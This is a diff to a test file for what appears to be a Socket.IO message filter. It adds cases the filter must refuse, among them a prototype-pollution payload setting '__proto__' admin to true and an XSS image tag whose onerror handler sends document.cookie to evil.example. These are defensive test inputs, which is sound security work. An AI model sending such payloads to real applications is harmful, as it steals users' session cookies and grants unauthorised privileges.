@@ -33,6 +33,17 @@ const refused = abuses({
     ['42/staff,["announce","free beer"]'],
   ],
   "the event that ends older servers (CVE-2024-38355)": ["dialect.syntax", 4522, [event("error", {})]],
+  "a name that reaches the prototype": [
+    "threat.hygiene",
+    4522,
+    ['42["say","attic",{"text":"hello","__proto__":{"admin":true}}]'],
+  ],
+  "a name that stands twice": ["threat.hygiene", 4522, ['42["say","attic",{"text":"hello","text":"x"}]']],
+  "script in a line": [
+    "threat.signature",
+    4522,
+    [event("say", "attic", { text: "<img src=x onerror=fetch('//evil.example/'+document.cookie)>" })],
+  ],
   "a thousand files of one event": ["dialect.limit", 4522, [packet("51000-", "attach", "attic")]],
   "a file that no event announces": ["dialect.syntax", 4522, [Buffer.alloc(10)]],
   "a file with an event that brings none": [
